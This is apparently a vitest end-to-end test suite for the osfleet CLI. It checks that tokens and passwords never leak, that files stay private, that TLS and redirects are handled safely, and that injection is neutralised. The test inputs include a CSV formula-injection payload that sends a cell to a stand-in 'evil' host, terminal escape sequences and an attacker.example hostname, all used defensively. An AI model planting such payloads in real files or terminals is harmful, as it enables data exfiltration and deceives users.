/**
 * Secrets and trust (issue 7), end to end through the built CLI:
 * - every command, with --debug, on success and on failure, never shows the token or the password
 *   on stdout, stderr, in error messages, output files or manifests (only the config file holds the
 *   token);
 * - the config file and its folder are 0600/0700, whatever the umask; a folder others can write to
 *   is refused with the fix named;
 * - --tls-skip-verify warns on every run; plain http:// to a non-loopback address is refused unless
 *   allowed; a redirect never carries the token to another origin;
 * - CSV and manifests are 0600, and formulas are neutralised by default.
 * TLS with and without a custom CA (REST and websocket) is tested in test/query-e2e.test.ts.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startSandbox, type Sandbox } from '../../src/sandbox/index.js';
import { binPath, childEnv, collect, repoRoot, runCli, scratchHome, upstreamDir, type CliResult } from '../helpers/cli.js';
import { startCliFleet, TEST_TLS, type CliFleet } from '../helpers/fleet.js';
import { json, startStub } from '../helpers/stub-server.js';

const PASSWORD = 'Known-Passw0rd!secret#7';
const EMAIL = 'secrets@osfleet.test';
let leaks = 0;
let checked = 0;

afterAll(() => {
  console.log(`[secrets] ${checked} command runs and files checked for the token and the password; secrets leaked: ${leaks}`);
});

/** Every file under a folder, as [path, text]. */
function filesUnder(dir: string): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesUnder(p));
    else if (e.isFile()) out.push([p, readFileSync(p, 'latin1')]);
  }
  return out;
}

describe.each(['fleet', 'kolide'] as const)('no secret in any output (%s)', (dialect) => {
  let sandbox: Sandbox;
  let scratch: ReturnType<typeof scratchHome>;
  let work: string;
  const tokens = new Set<string>();
  const transcript: Array<{ args: string[]; r: CliResult }> = [];
  beforeAll(async () => {
    // Not set up: `osfleet setup` creates the admin with the known password.
    sandbox = await startSandbox({ port: 0, seed: 3, checkInMs: 250, dialect });
    scratch = scratchHome();
    work = mkdtempSync(path.join(tmpdir(), 'osfleet-secrets-'));
  });
  afterAll(async () => {
    await sandbox?.stop();
    scratch?.cleanup();
    rmSync(work, { recursive: true, force: true });
  });

  const config = () => readFileSync(scratch.configPath, 'utf8');
  const tokenNow = () => /token: (\S+)/.exec(config())?.[1];
  const osfleet = async (args: string[], opts: { stdin?: string; env?: Record<string, string | undefined>; code?: number } = {}) => {
    const r = await runCli(['--debug', ...args], { env: { ...scratch.env, ...opts.env }, cwd: work, ...(opts.stdin !== undefined ? { stdin: opts.stdin } : {}) });
    transcript.push({ args, r });
    expect(r.code, `${args.join(' ')}\n${r.stderr}`).toBe(opts.code ?? 0);
    const t = tokenNow();
    if (t) tokens.add(t);
    return r;
  };

  it('runs every command, successes and failures, with --debug', async () => {
    await osfleet(['config', 'set', '--address', sandbox.url]);
    await osfleet(['setup', '--email', EMAIL, '--name', 'Secret Keeper', '--org-name', 'osfleet', '--password-stdin'], { stdin: `${PASSWORD}\n` });
    expect(tokenNow()).toBeTruthy();
    expect(statSync(scratch.configPath).mode & 0o777).toBe(0o600);
    expect(statSync(path.dirname(scratch.configPath)).mode & 0o777).toBe(0o700);
    await osfleet(['login', '--email', EMAIL, '--password-stdin'], { stdin: `${PASSWORD}\n` });
    // The user insists on argv: warned, and still never echoed.
    const argv = await osfleet(['login', '--email', EMAIL, '--password', PASSWORD]);
    expect(argv.stderr).toContain('prefer --password-stdin');
    await osfleet(['login', '--email', EMAIL, '--password-stdin'], { stdin: `${PASSWORD}-wrong\n`, code: 4 });
    for (const args of [['whoami'], ['whoami', '--json'], ['version'], ['version', '--json'], ['config', 'get'], ['config', 'get', 'token'], ['config', 'list'], ['config', 'list', '--json']]) {
      await osfleet(args);
    }
    // Let the simulated hosts enroll and check in before asking for them.
    for (let i = 0; i < 50 && !(await osfleet(['get', 'hosts', '--format', 'ndjson'])).stdout.includes('pam-macbook-1015'); i++) {
      await new Promise((r) => setTimeout(r, 200));
    }
    await osfleet(['apply', '-f', path.join(repoRoot, 'packs/data-leak'), '--yes']);
    await osfleet(['apply', '-f', path.join(repoRoot, 'packs/data-leak'), '--dry-run', '--format', 'json']);
    for (const kind of ['hosts', 'queries', 'packs', 'labels', 'options', 'enroll_secret']) {
      await osfleet(['get', kind]);
      await osfleet(['get', kind, kind === 'hosts' ? '--json' : '--yaml']);
    }
    await osfleet(['lint', '-f', path.join(repoRoot, 'packs/data-leak')]);
    await osfleet(['convert', '-f', path.join(upstreamDir, 'osquery-packs/osquery-monitoring.conf'), '-o', path.join(work, 'converted.yml')]);
    const out = path.join(work, 'leaks.csv');
    await osfleet(['query', '--all', '--query', 'SELECT * FROM users', '-o', out], { code: 0 });
    await osfleet(['query', '--all', '--query', 'SELECT 1 AS one', '--format', 'json']);
    await osfleet(['query', '--all', '--query', 'SELECT 1 AS one', '--transport', 'rest', '--format', 'ndjson', '-o', path.join(work, 'rest.ndjson')], { code: dialect === 'kolide' ? 1 : 0 });
    const raw = path.join(work, 'raw.ndjson');
    await osfleet(['query', '--all', '--query', 'SELECT uid, username FROM users', '-o', raw]);
    await osfleet(['export', raw, '--sql', 'SELECT uid, username FROM users', '-o', path.join(work, 'export.csv'), '--usernames-from-server']);
    await osfleet(['query', '--hosts', 'nosuchhost', '--query', 'SELECT 1'], { code: 1 });
    await osfleet(['delete', 'query', 'no-such-query', '--yes']);
    await osfleet(['delete', 'pack', 'data-leak', '--yes']);
    const before = tokenNow()!;
    await osfleet(['logout']);
    expect(config()).not.toContain('token:');
    // The revoked token, from the environment and from the file: refused (exit 4), never echoed.
    await osfleet(['whoami'], { env: { FLEET_API_TOKEN: before }, code: 4 });
    await osfleet(['config', 'set', '--token-stdin'], { stdin: `${before}\n` });
    await osfleet(['get', 'hosts'], { code: 4 });
    await osfleet(['query', '--all', '--query', 'SELECT 1'], { code: 4 });
    await osfleet(['config', 'set', '--token', before]);
    await osfleet(['logout']);
  });

  it('neither the token nor the password appears in any output or file but the config', () => {
    expect(transcript.length).toBeGreaterThan(30);
    expect(tokens.size).toBeGreaterThanOrEqual(3);
    const secrets = [PASSWORD, ...tokens];
    // A fragment too: a partial echo (a redaction keeping too much) is a leak as well.
    for (const t of tokens) if (t.length >= 24) secrets.push(t.slice(4, 20));
    const found: string[] = [];
    for (const { args, r } of transcript) {
      checked++;
      for (const s of secrets) {
        // --password on argv is the one place the user typed it: the process list, not our output.
        if (r.stdout.includes(s) || r.stderr.includes(s)) found.push(`${args.join(' ')}: ${s.slice(0, 6)}…`);
      }
    }
    for (const [file, text] of [...filesUnder(work), ...filesUnder(scratch.home)]) {
      checked++;
      if (file === scratch.configPath) continue;
      for (const s of secrets) if (text.includes(s)) found.push(`${file}: ${s.slice(0, 6)}…`);
    }
    leaks += found.length;
    expect(found).toEqual([]);
    // The trace is really on: requests, the websocket, the retries would all show here.
    const traced = transcript.map((t) => t.r.stderr).join('\n');
    expect(traced).toMatch(/\[debug\] POST \/api\/v1\/\w+\/login → 200/);
    expect(traced).toContain('sending auth (token redacted)');
    // Output files and manifests are 0600.
    for (const f of ['leaks.csv', 'leaks.csv.manifest.json', 'raw.ndjson', 'export.csv']) expect(statSync(path.join(work, f)).mode & 0o777, f).toBe(0o600);
  });
});

describe('files are private whatever the umask', () => {
  let fleet: CliFleet;
  let dir: string;
  beforeAll(async () => {
    fleet = await startCliFleet({ dialect: 'fleet' });
    dir = mkdtempSync(path.join(tmpdir(), 'osfleet-umask-'));
  });
  afterAll(async () => {
    await fleet?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  /** The CLI under `umask 000`, where every file would be created world-readable by default. */
  const loose = (args: string[], env: Record<string, string | undefined>, stdin?: string) =>
    collect(spawn('/bin/sh', ['-c', 'umask 000; exec "$0" "$@"', process.execPath, binPath, ...args], { env: childEnv(env), stdio: ['pipe', 'pipe', 'pipe'] }), stdin !== undefined ? { stdin } : {});

  it('config 0600 in a 0700 folder; CSV and manifest 0600; formulas neutralised by default, kept with --csv-raw', async () => {
    const home = scratchHome();
    try {
      const set = await loose(['config', 'set', '--address', fleet.url, '--token-stdin'], { ...home.env }, 'tok-umask\n');
      expect(set.code, set.stderr).toBe(0);
      expect(statSync(home.configPath).mode & 0o777).toBe(0o600);
      expect(statSync(path.dirname(home.configPath)).mode & 0o777).toBe(0o700);
      const sql = `SELECT '=HYPERLINK("http://evil/?"&A1)' AS f, '+SUM(1)' AS p, '-2+3' AS m, '@cmd' AS a, '-12.5' AS n, 'plain' AS t`;
      const out = path.join(dir, 'cells.csv');
      const r = await loose(['query', '--hosts', 'jim-macbook-1014', '--query', sql, '-o', out], fleet.env);
      expect(r.code, r.stderr).toBe(0);
      expect(statSync(out).mode & 0o777).toBe(0o600);
      expect(statSync(`${out}.manifest.json`).mode & 0o777).toBe(0o600);
      const [header, row] = readFileSync(out, 'utf8').split('\r\n');
      expect(header).toBe('host,f,p,m,a,n,t');
      expect(row).toBe(`jim-macbook-1014,"'=HYPERLINK(""http://evil/?""&A1)",'+SUM(1),'-2+3,'@cmd,-12.5,plain`);
      const rawOut = path.join(dir, 'raw.csv');
      const raw = await loose(['query', '--hosts', 'jim-macbook-1014', '--query', sql, '-o', rawOut, '--csv-raw'], fleet.env);
      expect(raw.code, raw.stderr).toBe(0);
      expect(readFileSync(rawOut, 'utf8').split('\r\n')[1]).toBe('jim-macbook-1014,"=HYPERLINK(""http://evil/?""&A1)",+SUM(1),-2+3,@cmd,-12.5,plain');
    } finally {
      home.cleanup();
    }
  });

  // The table is for people: a value on a host (a file name, a USB serial) holding ESC sequences
  // must not retitle the window, clear the screen or hide rows. Machine formats keep the bytes.
  it('the table escapes control characters in cells from hosts', async () => {
    const r = await runCli(['query', '--hosts', 'jim-macbook-1014', '--format', 'table', '--query', "SELECT char(27) || ']0;owned' || char(7) || char(27) || '[2J' AS x"], { env: fleet.env });
    expect(r.code, r.stderr).toBe(0);
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain('\\x1b]0;owned\\x07\\x1b[2J');
  });

  it('a config folder others can write to is refused, naming the fix', async () => {
    const home = scratchHome();
    try {
      mkdirSync(path.dirname(home.configPath), { recursive: true });
      writeFileSync(home.configPath, `contexts:\n  default:\n    address: ${fleet.url}\n    token: t\n`, { mode: 0o600 });
      chmodSync(path.dirname(home.configPath), 0o777);
      const r = await runCli(['whoami'], { env: home.env });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`config folder ${path.dirname(home.configPath)} is writable by group or others (mode 777)`);
      expect(r.stderr).toContain(`Hint: chmod 700 '${path.dirname(home.configPath)}'`);
      // Writing into it is refused too: a new token never lands where others can swap it.
      rmSync(home.configPath);
      const set = await runCli(['config', 'set', '--address', fleet.url], { env: home.env });
      expect(set.code).toBe(1);
      expect(set.stderr).toContain('chmod 700');
      expect(readdirSync(path.dirname(home.configPath))).toEqual([]);
      // A plain `mkdir -p` folder (0755: listable, not writable) is fine.
      chmodSync(path.dirname(home.configPath), 0o755);
      expect((await runCli(['config', 'set', '--address', fleet.url], { env: home.env })).code).toBe(0);
    } finally {
      home.cleanup();
    }
  });
});

describe('the config file under concurrent runs', () => {
  it('eight runs writing different contexts at once: every change kept, no lock left, still 0600', async () => {
    const home = scratchHome();
    try {
      const runs = await Promise.all(
        Array.from({ length: 8 }, (_, i) => runCli(['--context', `c${i}`, 'config', 'set', '--address', `https://fleet${i}.example.com`], { env: home.env })),
      );
      for (const r of runs) expect(r.code, r.stderr).toBe(0);
      const text = readFileSync(home.configPath, 'utf8');
      for (let i = 0; i < 8; i++) expect(text).toContain(`address: https://fleet${i}.example.com`);
      expect(readdirSync(path.dirname(home.configPath))).toEqual(['config.yml']);
      expect(statSync(home.configPath).mode & 0o777).toBe(0o600);
    } finally {
      home.cleanup();
    }
  });
});

describe('trust on the wire', () => {
  let fleet: CliFleet;
  beforeAll(async () => {
    fleet = await startCliFleet({ dialect: 'fleet', tls: TEST_TLS });
  });
  afterAll(async () => fleet?.stop());

  const withConfig = (extra: string) => {
    const home = scratchHome();
    mkdirSync(path.dirname(home.configPath), { recursive: true, mode: 0o700 });
    writeFileSync(home.configPath, `contexts:\n  default:\n    address: ${fleet.url}\n    token: ${fleet.token}\n${extra}`, { mode: 0o600 });
    return home;
  };

  it('tls-skip-verify works and warns on every run, REST and websocket alike', async () => {
    const home = withConfig('    tls-skip-verify: true\n');
    try {
      for (const args of [['whoami'], ['get', 'hosts'], ['query', '--hosts', 'jim-macbook-1014', '--query', 'SELECT 1 AS one']]) {
        const r = await runCli(args, { env: home.env });
        expect(r.code, r.stderr).toBe(0);
        expect(r.stderr.match(/Warning: TLS certificate verification is OFF/g), args.join(' ')).toHaveLength(1);
      }
    } finally {
      home.cleanup();
    }
  });

  it('without the CA: exit 1 with the rootca hint, and the token never sent in clear', async () => {
    const home = withConfig('');
    try {
      const r = await runCli(['get', 'hosts'], { env: home.env });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/TLS verification of https:\/\/127\.0\.0\.1:\d+ failed/);
      expect(r.stderr).toContain('--rootca');
    } finally {
      home.cleanup();
    }
  });

  it('plain http:// to a non-loopback address is refused before any connection, unless allowed', async () => {
    const stub = await startStub((req, res) => (req.path === '/version' ? json(res, 200, { version: '4.60.0' }) : json(res, 200, { user: { email: 'a@b.c' } })));
    try {
      // The IPv4-mapped form of 127.0.0.1 is not on osfleet's loopback list, so it stands for "remote" here.
      const remote = stub.url.replace('127.0.0.1', '[::ffff:127.0.0.1]');
      const home = scratchHome();
      try {
        const refused = await runCli(['whoami'], { env: { ...home.env, FLEET_URL: remote, FLEET_API_TOKEN: 'tok-abc' } });
        expect(refused.code).toBe(1);
        expect(refused.stderr).toContain('refusing plain http:// to [::ffff:7f00:1]');
        expect(refused.stderr).toContain('--allow-insecure-http');
        expect(stub.seen).toHaveLength(0);
        expect((await runCli(['config', 'set', '--allow-insecure-http'], { env: home.env })).code).toBe(0);
        const allowed = await runCli(['whoami'], { env: { ...home.env, FLEET_URL: remote, FLEET_API_TOKEN: 'tok-abc' } });
        expect(allowed.code, allowed.stderr).toBe(0);
        expect(stub.seen.length).toBeGreaterThan(0);
        // The opt-out is loud: every run says the token travels unencrypted.
        expect(allowed.stderr).toContain('Warning: plain http:// to [::ffff:7f00:1]');
        // A name that merely starts with 127. is a DNS name: refused like any other remote.
        const named = await runCli(['whoami'], { env: { ...home.env, OSFLEET_CONTEXT: 'other', FLEET_URL: 'http://127.attacker.example.com:9', FLEET_API_TOKEN: 'tok-abc' } });
        expect(named.code).toBe(1);
        expect(named.stderr).toContain('refusing plain http:// to 127.attacker.example.com:9');
      } finally {
        home.cleanup();
      }
    } finally {
      await stub.close();
    }
  });

  it("a server's error text cannot drive the terminal: control characters escaped, length capped", async () => {
    const evil = '\u001b]0;owned\u0007\u001b[2J\u001b[31mAll good, nothing to see\u202e' + 'x'.repeat(10_000);
    const stub = await startStub((req, res) =>
      req.path === '/version' ? json(res, 200, { version: '4.60.0' }) : json(res, 500, { message: evil, errors: [{ name: 'base', reason: '\u009b31m' }] }),
    );
    const home = scratchHome();
    try {
      const r = await runCli(['get', 'hosts'], { env: { ...home.env, FLEET_URL: stub.url, FLEET_API_TOKEN: 'tok' } });
      expect(r.code).toBe(1);
      // eslint-disable-next-line no-control-regex
      expect(r.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
      expect(r.stderr).toContain('\\u001b]0;owned\\u0007');
      const line = r.stderr.split('\n').find((l) => l.startsWith('Error: '))!;
      expect(line.length).toBeLessThan(700);
    } finally {
      home.cleanup();
      await stub.close();
    }
  });

  it('credentials in the address are refused, never repeated, never sent', async () => {
    const stub = await startStub((req, res) => json(res, 200, { version: '4.60.0', user: { email: 'a@b.c' } }));
    const home = scratchHome();
    try {
      const withUser = stub.url.replace('http://', 'http://admin:hunter2-url-secret@');
      for (const [args, env] of [
        [['whoami', '--json'], { FLEET_URL: withUser, FLEET_API_TOKEN: 'tok' }],
        [['--debug', 'get', 'hosts'], { FLEET_URL: withUser, FLEET_API_TOKEN: 'tok' }],
        [['config', 'set', '--address', withUser], {}],
      ] as const) {
        const r = await runCli([...args], { env: { ...home.env, ...env } });
        expect(r.code, args.join(' ')).toBe(1);
        expect(r.stderr).toContain('holds a user name or password');
        expect(r.stdout + r.stderr).not.toContain('hunter2-url-secret');
      }
      expect(stub.seen).toEqual([]);
    } finally {
      home.cleanup();
      await stub.close();
    }
  });

  it('a redirect to another origin is not followed: the token stays home', async () => {
    const other = await startStub((req, res) => json(res, 200, { hosts: [] }));
    const home = scratchHome();
    const redirecting = await startStub((req, res) => {
      if (req.path === '/version') return json(res, 200, { version: '4.60.0' });
      res.writeHead(307, { location: `${other.url}${req.path}` });
      res.end();
    });
    try {
      for (const args of [['get', 'hosts'], ['whoami'], ['query', '--all', '--query', 'SELECT 1']]) {
        const r = await runCli(args, { env: { ...home.env, FLEET_URL: redirecting.url, FLEET_API_TOKEN: 'tok-never-elsewhere' } });
        expect(r.code, args.join(' ')).toBe(1);
        expect(r.stderr).toContain('osfleet does not follow redirects (the token is never sent to another origin)');
        expect(r.stderr).not.toContain('tok-never-elsewhere');
      }
      expect(other.seen).toEqual([]);
      expect(redirecting.seen.some((s) => s.headers.authorization === 'Bearer tok-never-elsewhere')).toBe(true);
    } finally {
      home.cleanup();
      await other.close();
      await redirecting.close();
    }
  });
});

describe('preview keeps its generated secrets to itself', () => {
  it('neither the generated password nor the token shows in its output; admin.json is 0600', async () => {
    const home = scratchHome();
    const data = path.join(home.home, 'pv');
    let pid: number | undefined;
    try {
      const runs: CliResult[] = [];
      const osfleet = async (args: string[]) => {
        const r = await runCli(['--debug', ...args], { env: home.env });
        runs.push(r);
        expect(r.code, `${args.join(' ')}\n${r.stderr}`).toBe(0);
        return r;
      };
      await osfleet(['preview', '--detach', '--port', '0', '--data', data, '--use']);
      pid = (JSON.parse(readFileSync(path.join(data, 'preview.json'), 'utf8')) as { pid?: number }).pid;
      const token = /token: (\S+)/.exec(readFileSync(home.configPath, 'utf8'))?.[1];
      const { password } = JSON.parse(readFileSync(path.join(data, 'admin.json'), 'utf8')) as { password: string };
      expect(token).toBeTruthy();
      expect(statSync(path.join(data, 'admin.json')).mode & 0o777).toBe(0o600);
      await osfleet(['preview', 'status', '--data', data]);
      await osfleet(['whoami']);
      await osfleet(['config', 'get']);
      await osfleet(['preview', 'stop', '--data', data]);
      pid = undefined;
      const found = runs.flatMap((r, i) => [token!, password].filter((s) => r.stdout.includes(s) || r.stderr.includes(s)).map((s) => `run ${i}: ${s.slice(0, 6)}…`));
      checked += runs.length;
      leaks += found.length;
      expect(found).toEqual([]);
    } finally {
      if (pid !== undefined) {
        try {
          process.kill(pid, 'SIGTERM');
        } catch {
          // already gone
        }
      }
      home.cleanup();
    }
  });
});
